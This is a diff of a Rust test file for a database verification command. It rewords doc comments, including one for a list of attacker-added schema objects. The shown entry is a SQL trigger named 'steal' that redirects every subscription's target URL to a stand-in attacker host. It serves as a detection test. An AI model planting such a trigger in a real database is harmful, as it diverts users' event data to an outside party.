@@ -28,13 +28,13 @@ fn database(dir: &Path) -> Connection {
     Connection::open(dir.join("platform.db")).expect("a database")
 }
 
-/// What `crow db verify` says, with its exit code.
+/// Returns the output and the exit code of `crow db verify`.
 fn verified(dir: &Path, more: &[&str]) -> (Option<i32>, String) {
     let output = ended(&mut crow(&[&["db", "verify"], more].concat(), dir));
     (output.status.code(), String::from_utf8_lossy(&output.stdout).into_owned())
 }
 
-/// Gives every row the hash that it had before the chain had a key: all that can be done without it.
+/// Recomputes the hash of every row as before the chain had a key, which is all that is possible without the key.
 fn rehash(database: &Connection) {
     let mut previous: Vec<u8> = Vec::new();
     let mut statement = database
@@ -214,7 +214,7 @@ async fn a_lost_admin_token_is_replaced_on_the_machine_and_the_old_one_is_refuse
     assert_eq!(refused(2, &mut crow(&["operators", "reset"], &home.path().join("none"))).lines().count(), 1);
 }
 
-/// What a stranger could add to a database, with what must be named.
+/// Schema objects that an attacker could add to a database, each with the name that must be reported.
 const SCHEMAS: [(&str, &str); 10] = [
     (
         "CREATE TRIGGER steal AFTER INSERT ON events BEGIN UPDATE subscriptions SET target_url = 'https://evil.example/'; END",
